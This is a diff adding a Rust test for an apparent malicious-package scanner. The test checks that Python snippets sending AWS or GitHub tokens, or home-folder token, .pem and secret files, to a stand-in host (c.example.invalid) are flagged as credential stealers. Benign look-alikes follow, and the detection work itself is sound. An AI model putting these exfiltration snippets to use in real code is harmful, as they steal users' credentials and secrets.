@@ -872,3 +872,48 @@ fn clients_made_first_git_push_urls_and_disguised_metadata_addresses_are_stealer
         ),
     ]);
 }
+
+/// A client bound through its module (`r = redis.Redis(…)`, `rd.StrictRedis(…)` after
+/// `import redis as rd`) then used (`r.set(…)`) carries a secret out as `redis.Redis(…).set(…)`
+/// does (py16 note); and a glob rooted at the home folder whose wildcards match credential files
+/// (`~/.config/**/*token*`, `~/**/*.pem`, `*secret*`) is a credential read, a stealer when
+/// the matches are sent at load (t22 s17token_file_glob).
+#[test]
+fn module_bound_clients_and_home_globs_for_secret_files_are_stealers() {
+    let cases = [
+        "import os, redis\nr = redis.Redis(host='c.example.invalid')\nr.set('k', os.environ.get('AWS_SECRET_ACCESS_KEY'))\n",
+        "import os\nimport redis as rd\nr = rd.StrictRedis(host='c.example.invalid')\nr.publish('k', os.environ['GITHUB_TOKEN'])\n",
+        "import os, pymongo\nc = pymongo.MongoClient('mongodb://c.example.invalid')\nc.db.t.insert_one({'k': os.environ['AWS_SECRET_ACCESS_KEY']})\n",
+        "import glob, os, requests\nfor p in glob.glob(os.path.expanduser('~/.config/**/*token*'), recursive=True):\n    requests.post('https://c.example.invalid/t', files={'f': open(p, 'rb')})\n",
+        "import glob, os, requests\nfor p in glob.glob(os.path.expanduser('~/**/*.pem'), recursive=True):\n    requests.post('https://c.example.invalid/t', data=open(p, 'rb').read())\n",
+        "import glob, urllib.request\nfor p in glob.glob('~/.config/*/*secret*'):\n    urllib.request.urlopen('https://c.example.invalid/t', data=open(p, 'rb').read())\n",
+    ];
+    let mut failures = Vec::new();
+    for (i, src) in cases.iter().enumerate() {
+        let r = pysrc::scan(&format!("k{i}/__init__.py"), src);
+        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
+            failures.push(format!("{src}\n{:?}", summary(&r)));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
+    // A cache client used inside a function, an app's own settings read without egress, a
+    // project glob for token modules in a test helper, and one under the project's folder.
+    pysrc::benign(&[
+        (
+            "t1/__init__.py",
+            "import redis\nr = redis.Redis(host='localhost')\ndef remember(k, v):\n    r.set(k, v)\n",
+        ),
+        (
+            "t2/__init__.py",
+            "import glob, json, os\nCONF = [json.load(open(p)) for p in glob.glob(os.path.expanduser('~/.config/myapp/*.json'))]\n",
+        ),
+        (
+            "t3/helpers.py",
+            "import glob\ndef token_modules():\n    return glob.glob('**/*token*.py', recursive=True)\n",
+        ),
+        (
+            "t4/__init__.py",
+            "import glob, requests\nFILES = glob.glob('data/**/*token*', recursive=True)\ndef upload():\n    for p in FILES:\n        requests.post('https://c.example.invalid/u', data=open(p, 'rb').read())\n",
+        ),
+    ]);
+}
